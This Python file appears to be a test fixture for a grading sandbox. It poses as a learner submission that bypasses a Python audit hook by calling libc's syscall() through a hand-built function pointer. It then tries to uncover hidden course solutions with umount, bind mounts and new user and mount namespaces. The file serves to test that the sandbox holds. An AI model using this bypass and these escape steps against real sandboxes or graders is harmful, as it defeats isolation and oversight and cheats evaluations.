"""A learner file that gets past the audit hook into native code, then attacks the mounts that hide
the course: behind the kernel's namespaces, the hook is not what holds.

The hook refuses ctypes' dlopen and dlsym, but not a call through a function pointer built from an
address: this file reads libc's address from /proc/self/maps and the offset of syscall() from
libc's own ELF symbol table, then calls syscall(2) directly. With it, it tries to uncover the
course (ROOT, filled in by tests/grading/test_sandbox.py): unmount what covers it, bind its parent
somewhere without the covering mount (a non-recursive bind), and both again from a user + mount
namespace of its own. The kernel must refuse each: mounts inherited from a more privileged
namespace are locked, and a non-recursive bind of a mount with locked children fails
(mount_namespaces(7)).
"""
import ctypes
import os
import struct

ROOT = "@ROOT@"
_NR = {"x86_64": {"getpid": 39, "mount": 165, "umount2": 166, "unshare": 272},
       "aarch64": {"getpid": 172, "mount": 40, "umount2": 39, "unshare": 97}}[os.uname().machine]
MS_BIND, MNT_DETACH, CLONE_NEWUSER, CLONE_NEWNS = 0x1000, 2, 0x10000000, 0x20000


def _libc_syscall():
    base = path = None
    with open("/proc/self/maps") as f:
        for line in f:
            parts = line.split()
            if len(parts) >= 6 and "libc.so" in parts[5] and int(parts[2], 16) == 0:
                base, path = int(parts[0].split("-")[0], 16), parts[5]
                break
    with open(path, "rb") as f:
        elf = f.read()
    shoff, = struct.unpack_from("<Q", elf, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", elf, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize) for i in range(shnum)]
    dynsym = next(s for s in sections if s[1] == 11)                 # SHT_DYNSYM
    strtab = sections[dynsym[6]]
    for off in range(dynsym[4], dynsym[4] + dynsym[5], 24):
        name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", elf, off)
        start = strtab[4] + name
        if elf[start:elf.index(b"\0", start)] == b"syscall" and value:
            proto = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p,
                                     ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p, use_errno=True)
            return proto(base + value)
    raise LookupError("no syscall in libc")


_syscall = _libc_syscall()


def _call(name, *args):
    r = _syscall(_NR[name], *[a if not isinstance(a, str) else a.encode() for a in args] + [None] * (5 - len(args)))
    return r if r >= 0 else -ctypes.get_errno()


def hook_bypassed():
    """True when native code runs despite the hook: getpid through syscall(2) answers."""
    return _call("getpid") == os.getpid()


def _sees_course():
    seen = []
    for d in (ROOT, "/tmp/peek"):
        try:
            if "exercises" in os.listdir(d) or "solution.py" in os.listdir(os.path.join(d, "pipeline_timeline")):
                seen.append(d)
        except OSError:
            pass
    return seen


def attack():
    """[(step, result of the syscall, folders where the course showed)] for each attempt."""
    out = []
    os.makedirs("/tmp/peek", exist_ok=True)
    parent = os.path.dirname(ROOT)
    for label in ("as started", "in a namespace of its own"):
        if label != "as started":
            out.append(("unshare", _call("unshare", CLONE_NEWUSER | CLONE_NEWNS), _sees_course()))
        out.append(("umount " + label, _call("umount2", ROOT, MNT_DETACH), _sees_course()))
        out.append(("bind the parent " + label, _call("mount", parent, "/tmp/peek", None, MS_BIND, None),
                    _sees_course()))
        out.append(("bind the course " + label, _call("mount", ROOT, "/tmp/peek", None, MS_BIND, None),
                    _sees_course()))
    return out


def schedule(K, L, C, S):
    return []


def pipeline_time(K, L, C, S):
    return 0
